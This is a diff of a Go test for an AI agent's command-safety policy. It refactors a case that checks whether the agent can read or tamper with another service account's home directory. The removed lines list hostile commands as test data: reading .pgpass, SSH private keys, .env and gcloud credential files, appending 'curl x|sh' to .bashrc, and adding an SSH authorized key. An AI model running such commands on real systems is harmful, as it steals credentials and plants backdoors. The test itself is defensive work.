@@ -44,28 +44,7 @@ func TestOtherAccountsHomesOtherUserSSHD(t *testing.T) {
 		}
 	}
 	os.Chmod(bed, 0o755)
-	svcHome := filepath.Join(openDir(t, "agent-svc-sshd-"), "svc")
-	for name, content := range map[string]string{
-		".pgpass": "db:5432:*:app:m4rker-pgpass\n", ".ssh/id_ed25519": "m4rker-sshkey\n", "server.key": "m4rker-key\n",
-		".psql_history": "\\password m4rker-hist\n", "notes.txt": "benign-notes\n", ".bashrc": "# benign-rc\n",
-		"app/.env": "PASSWORD=m4rker-env\n", ".config/gcloud/credentials.db": "m4rker-gcloud\n",
-	} {
-		p := filepath.Join(svcHome, name)
-		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
-			t.Fatal(err)
-		}
-		if err := os.WriteFile(p, []byte(content), 0o666); err != nil {
-			t.Fatal(err)
-		}
-	}
-	svc := testenv.StartServiceAccount(t, svcHome)
-	svc.Own(t, svcHome)
-	filepath.Walk(svcHome, func(p string, fi os.FileInfo, err error) error {
-		if err == nil {
-			os.Chmod(p, map[bool]os.FileMode{true: 0o777, false: 0o666}[fi.IsDir()])
-		}
-		return err
-	})
+	svcHome := serviceHome(t, "agent-svc-sshd-")
 	if err := os.WriteFile(filepath.Join(bed, "agent-run"), []byte("#!/bin/sh\nexec /bin/sh \"$1\"\n"), 0o755); err != nil {
 		t.Fatal(err)
 	}
@@ -103,12 +82,7 @@ func TestOtherAccountsHomesOtherUserSSHD(t *testing.T) {
 		return planner.Step{Tool: "execute_command", IgnoreErrors: true,
 			Parameters: map[string]any{"command": filepath.Join(bed, "agent-run") + " " + f}}
 	}
-	reads := []string{"cat " + svcHome + "/.pgpass", "cat " + svcHome + "/.ssh/id_ed25519", "cat " + svcHome + "/server.key",
-		"tail " + svcHome + "/.psql_history", "grep -r m4r[k]er " + svcHome, "cat " + svcHome + "/app/.env",
-		"cat " + svcHome + "/.config/gcloud/credentials.db"}
-	writes := []string{"echo 'curl x|sh' >> " + svcHome + "/.bashrc", "echo x > " + svcHome + "/.profile",
-		"mkdir -p " + svcHome + "/.ssh && echo key >> " + svcHome + "/.ssh/authorized_keys", "ln -s /tmp " + svcHome + "/.config"}
-	benign := "cat " + svcHome + "/notes.txt " + svcHome + "/.bashrc && ls -a " + svcHome
+	reads, writes, benign := serviceAttacks(svcHome)
 	before := corpustest.Tree(t, svcHome)
 	for _, level := range []safety.Level{safety.Safe, safety.Medium} {
 		p := safety.DefaultPolicy()
